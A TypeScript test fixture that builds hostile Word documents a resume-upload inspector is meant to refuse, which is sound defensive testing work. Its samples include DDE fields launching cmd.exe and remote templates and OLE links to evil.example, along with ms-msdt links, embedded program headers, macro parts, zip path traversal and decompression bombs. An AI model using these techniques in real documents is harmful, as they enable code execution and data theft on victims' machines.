/** Documents of Word that must be refused: one for each rule of the inspection. */
import { Buffer } from 'node:buffer'
import type { ResumeFinding } from '@lanternfield/contract/answer-copy.ts'
import { compoundFile, doc, word2 } from './doc.ts'
import { docx, docxParts, relationship, relationships, workbook } from './docx.ts'
import { pdf } from './pdf.ts'
import { aDoc, aDocx, type HostileResume, refused } from './resume-example.ts'
import { type ZipPart, zip } from './zip.ts'

const asDoc = refused(aDoc)
const asDocx = refused(aDocx)
const withPart = (finding: ResumeFinding, name: string, part: ZipPart) =>
  asDocx(finding, name, { parts: [part] })

/** The first bytes of a program of Windows, as far as its second signature. */
const PROGRAM = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([64, 0, 0, 0]),
  Buffer.from('PE\0\0\x64\x86'),
  Buffer.alloc(500),
])
const HTML = '<html><script>alert(1)</script></html>'
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml'
const OBJECT = '/ObjectPool/_1234567890'

/** Instructions of fields that start a program or fetch a file. */
const instructions = [
  ['active', 'a program', ' DDEAUTO c:\\\\cmd.exe "/k calc.exe" '],
  ['active', 'a program in quotes and small letters', ' "dde" cmd "/c calc" '],
  ['remote', 'a file on a share', ' INCLUDETEXT "\\\\\\\\evil.example\\\\x.doc" '],
  ['remote', 'a picture on a share', ' INCLUDEPICTURE "//evil/x.png" \\d '],
  ['remote', 'a document of a server', ' LINK Word.Document.8 "https://evil.example/x.doc" '],
] as const
const field = (instruction: string) => `\x13${instruction}\x14result\x15`
const QUOTED = field(' QUOTE 68 68 69 65 85 84 79 ')

const docFields = [
  ...instructions.map(([finding, name, instruction]) =>
    asDoc(finding, `a field for ${name}`, { text: `Mira ${field(instruction)}` }),
  ),
  asDoc('active', 'a field of two bytes a letter', { text: field(' DDE cmd '), letterBytes: 2 }),
  asDoc('active', 'a field that is cut into pieces', {
    text: `Mira ${field(' DDEAUTO cmd')}`,
    cutAt: [8, 11, 14],
  }),
  asDoc('active', 'a field whose letters are numbers', { text: `\x13${QUOTED} cmd \x14\x15` }),
  asDoc('active', 'a field in the result of another', {
    text: `\x13 PAGE \x14${field(' DDE cmd')}\x15`,
  }),
  asDoc('active', 'a field without an end', { text: '\x13 DDE cmd' }),
  asDoc('active', 'a field of Word 2', () => word2(field(' DDE cmd'))),
]

const docs = [
  asDoc('format', 'nothing but HTML', () => Buffer.from(HTML)),
  asDoc('format', 'nothing but RTF', () => Buffer.from('{\\rtf1{\\object\\objemb}}')),
  asDoc('format', 'nothing but a DOCX', () => docx()),
  asDoc('format', 'nothing but a workbook', () => compoundFile({ '/Workbook': 'x'.repeat(5000) })),
  asDoc('format', 'an archive behind it', () =>
    Buffer.concat([doc(), zip([{ name: 'a', content: 'b' }], 'PK\x05\x06 and more')]),
  ),
  asDoc('broken', 'only its first bytes', () => doc().subarray(0, 300)),
  asDoc('broken', 'only its first half', () => doc().subarray(0, 4000)),
  asDoc('broken', 'only the first bytes of Word 2', () => word2('').subarray(0, 300)),
  asDoc('broken', 'a version that there is not', { version: 0x1234 }),
  asDoc('broken', 'a part missing', { without: ['/1Table'] }),
  asDoc('broken', 'two documents', { streams: { '/Other/WordDocument': 'x'.repeat(5000) } }),
  asDoc('broken', 'a directory that goes round in a circle', () => {
    const file = doc()
    const directory = file.readUInt32LE(48)
    const fat = (file.readUInt32LE(76) + 1) * 512
    file.writeUInt32LE(directory, fat + directory * 4)
    return file
  }),
  asDoc('broken', 'a table that names its sectors again and again', () => {
    const file = Buffer.alloc(2_000_000)
    doc().copy(file)
    // From sector 100 on, each sector is the list that goes on in the next.
    file.writeUInt32LE(100, 68)
    for (let sector = 100; sector < 3900; sector += 1)
      file.writeUInt32LE(sector + 1, (sector + 2) * 512 - 4)
    return file
  }),
  asDoc('protected', 'a password', { flags: 0x0100 }),
  asDoc('protected', 'a password of Word 2', () => word2('Mira', 0x0100)),
  asDoc('macros', 'macros', { streams: { '/MACROS/VBA/dir': 'x' } }),
  asDoc('macros', 'the flag of a template of Word 95', { version: 0xa5dc, flags: 1 }),
  asDoc('macros', 'the flag of a template of Word 2', () => word2('Mira', 1)),
  asDoc('active', 'a control', { streams: { '/A/\u0003OCXNAME': 'x' } }),
  asDoc('embedded', 'a program as an object', { streams: { '/A/\u0001Ole10Native': PROGRAM } }),
  asDoc('embedded', 'an object of any sort', { streams: { [`${OBJECT}/\u0001CompObj`]: 'x' } }),
  asDoc('embedded', 'an object of Word 2', () => word2(field(' EMBED Package '))),
  asDoc('remote', 'a template at an address', { template: 'https://evil.example/x.dot' }),
  asDoc('remote', 'a template on a share', { template: '\\\\10.0.0.1\\a\\normal.dot' }),
]

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const XML = '<?xml version="1.0" encoding="UTF-8"?>'
const body = (content: string) =>
  `${XML}<w:document ${W}><w:body><w:p>${content}</w:p></w:body></w:document>`
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const instruct = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`
const fieldInXml = (...pieces: readonly string[]) =>
  mark('begin') + pieces.join('') + mark('separate') + mark('end')
const simpleField = (instruction: string) =>
  `<w:fldSimple w:instr="${instruction.replaceAll('"', '&quot;')}"/>`
const withText = (name: string, content: string, encode = (xml: string) => Buffer.from(xml)) =>
  asDocx('active', name, () => instead('word/document.xml', () => encode(body(content))))
const inUtf16 = (xml: string) => Buffer.from(`\uFEFF${xml.replace('UTF-8', 'UTF-16')}`, 'utf16le')

function instead(name: string, content: (before: string) => string | Uint8Array): Buffer {
  const parts = docxParts({ relationships: relationship('oleObject', 'https://evil.example/x') })
  return zip(
    parts.map((part) =>
      part.name === name ? { ...part, content: content(String(part.content)) } : part,
    ),
  )
}

const docxFields = [
  ...instructions.map(([finding, name, instruction]) =>
    asDocx(finding, `a field for ${name}`, {
      parts: [{ name: 'word/footer1.xml', content: body(simpleField(instruction)) }],
    }),
  ),
  withText('a field in pieces', fieldInXml(instruct(' D'), instruct('&#68;'), instruct('E cmd'))),
  withText(
    'a field whose letters are numbers',
    fieldInXml(fieldInXml(instruct(' QUOTE 68 68 69 ')), instruct(' cmd')),
  ),
  withText('a field in UTF-16', simpleField('DDE cmd'), inUtf16),
]

const target = (finding: ResumeFinding, name: string, kind: string, to: string) =>
  asDocx(finding, name, { relationships: relationship(kind, to, 'External') })
const template = (to: string) =>
  withPart('remote', `a template at ${to}`, {
    name: 'word/_rels/settings.xml.rels',
    content: relationships(relationship('attachedTemplate', to, 'External')),
  })
const RELATIONSHIPS = 'word/_rels/document.xml.rels'

const references = [
  ...[
    '&#x68;ttps://evil.example/a.dotm',
    '\\\\evil.example\\a\\a.dotm',
    'file://evil/a/a.dotm',
    'file:///%5C%5C10.0.0.1/normal.dotm',
  ].map(template),
  target('remote', 'a picture on a share', 'image', '\\\\evil.example\\x'),
  target('remote', 'an object at an address', 'oleObject', 'mhtml:https://evil.example/x!x'),
  asDocx('remote', 'a frame that does not say that it is elsewhere', {
    relationships: relationship('frame', 'https://evil.example/'),
  }),
  target('active', 'a link to a script', 'hyperlink', 'javascript:alert(1)'),
  target('active', 'a link to a tool of Windows', 'hyperlink', 'ms-msdt:/id%20PCWDiagnostic'),
  asDocx('embedded', 'HTML to be included', {
    relationships: relationship('aFChunk', 'chunk.html'),
    parts: [{ name: 'word/chunk.html', content: HTML }],
  }),
  asDocx('remote', 'a list in UTF-16', () => instead(RELATIONSHIPS, inUtf16)),
  asDocx('broken', 'a list in an encoding that hides it', () =>
    instead(RELATIONSHIPS, (before) => before.replace('UTF-8', 'UTF-7')),
  ),
  asDocx('broken', 'a list with a document type', () =>
    instead(RELATIONSHIPS, (before) => before.replace('<Rel', '<!DOCTYPE x><Rel')),
  ),
  asDocx('broken', 'a list with an element that is none', () =>
    instead(RELATIONSHIPS, (before) => before.replace('Type=', 'a"b Type=')),
  ),
  withPart('oversized', 'a list of many megabytes', {
    name: 'word/_rels/a.xml.rels',
    content: relationships(' '.repeat(3_000_000)),
  }),
]

const macros = { name: 'word/vbaProject.bin', content: 'x' }
const parts = [
  withPart('macros', 'macros', { name: 'WORD/VBAPROJECT.BIN', content: 'x' }),
  asDocx('macros', 'macros by their type', {
    types: '<Override PartName="/word/a" ContentType="application/vnd.ms-office.vbaProject"/>',
    parts: [{ name: 'word/a', content: 'x' }],
  }),
  asDocx('macros', 'macros by their relationship', {
    relationships: relationship('vbaProject', 'theme.bin'),
  }),
  asDocx('macros', 'the type of a document for macros', {
    mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
  }),
  withPart('macros', 'macros in the workbook of a chart', {
    name: 'word/embeddings/chart.xlsx',
    content: workbook([{ name: 'xl/vbaProject.bin', content: 'x' }]),
    stored: true,
  }),
  withPart('active', 'a control', { name: 'word/activeX/activeX1.xml', content: '<x/>' }),
  asDocx('active', 'a control by its relationship', {
    relationships: relationship('control', 'a.xml'),
  }),
  withPart('embedded', 'an object', { name: 'word/embeddings/oleObject1.bin', content: 'x' }),
  asDocx('embedded', 'an object by its relationship', {
    relationships: relationship('oleObject', 'a.dat'),
  }),
  withPart('embedded', 'an object as a picture', {
    name: 'word/media/image1.png',
    content: compoundFile({ '/\u0001Ole10Native': 'x' }),
  }),
  withPart('embedded', 'a program as a picture', {
    name: 'word/media/image1.png',
    content: PROGRAM,
  }),
  withPart('embedded', 'a script of Windows', { name: 'word/embeddings/a.vbs', content: 'x' }),
  withPart('embedded', 'an archive', {
    name: 'word/embeddings/a.xlsx',
    content: zip([{ name: 'a.txt', content: 'x' }]),
  }),
  withPart('embedded', 'an archive within a workbook', {
    name: 'word/embeddings/a.xlsx',
    content: workbook([{ name: 'xl/a.xlsx', content: workbook(), stored: true }]),
    stored: true,
  }),
]

const archives = [
  asDocx('format', 'nothing but HTML', () => Buffer.from(HTML)),
  asDocx('format', 'nothing but a PDF', () => pdf()),
  asDocx('format', 'nothing but a DOC', () => doc()),
  asDocx('format', 'files of any sort', () => zip([{ name: 'mira.txt', content: 'x' }])),
  asDocx('format', 'nothing but a workbook', () => workbook()),
  asDocx('format', 'the type of a template', { mainType: `${WORD}.template.main+xml` }),
  asDocx('format', 'its text missing', () => zip(docxParts().toSpliced(2, 1))),
  asDocx('format', 'a PDF at its beginning', () =>
    zip([{ name: 'a.xml', content: pdf(), stored: true }, ...docxParts()]),
  ),
  asDocx('format', 'a program before it', () => Buffer.concat([PROGRAM, docx()])),
  asDocx('broken', 'another archive before it', () =>
    Buffer.concat([docx({ parts: [macros] }), docx()]),
  ),
  asDocx('broken', 'only its first half', () => docx().subarray(0, 700)),
  asDocx('broken', 'bytes behind its end', () => Buffer.concat([docx(), Buffer.from('x')])),
  withPart('protected', 'a password on one file', { ...macros, encrypted: true }),
  asDocx('protected', 'a password as Word sets it', () =>
    compoundFile({ '/EncryptionInfo': 'x'.repeat(200), '/EncryptedPackage': 'y'.repeat(5000) }),
  ),
  withPart('format', 'a file outside its folder', { name: '../../evil.xml', content: 'x' }),
  withPart('broken', 'two files of one name', { name: 'WORD/document.xml', content: '<x/>' }),
  withPart('broken', 'a file of two names', { ...macros, localName: 'word/b.xml' }),
  withPart('broken', 'a file of another name in Unicode', { ...macros, unicodeName: 'word/b.xml' }),
  withPart('oversized', 'more declared than it may unpack to', {
    ...macros,
    declaredBytes: 0xf0000000,
  }),
  withPart('oversized', 'a file that unpacks to more than declared', {
    name: 'word/a.xml',
    content: Buffer.alloc(30_000_000),
    declaredBytes: 1000,
  }),
  withPart('oversized', 'a file a hundred times as large as packed', {
    name: 'word/a.xml',
    content: Buffer.alloc(40_000_000),
  }),
  withPart('oversized', 'two files of the same bytes', { ...macros, dataOf: 2 }),
  asDocx('oversized', 'more files than a document has', {
    parts: Array.from({ length: 1200 }, (_, index) => ({ name: `word/${index}`, content: '' })),
  }),
]

export const hostileDocuments: readonly HostileResume[] = [
  ...docs,
  ...docFields,
  ...archives,
  ...parts,
  ...references,
  ...docxFields,
]
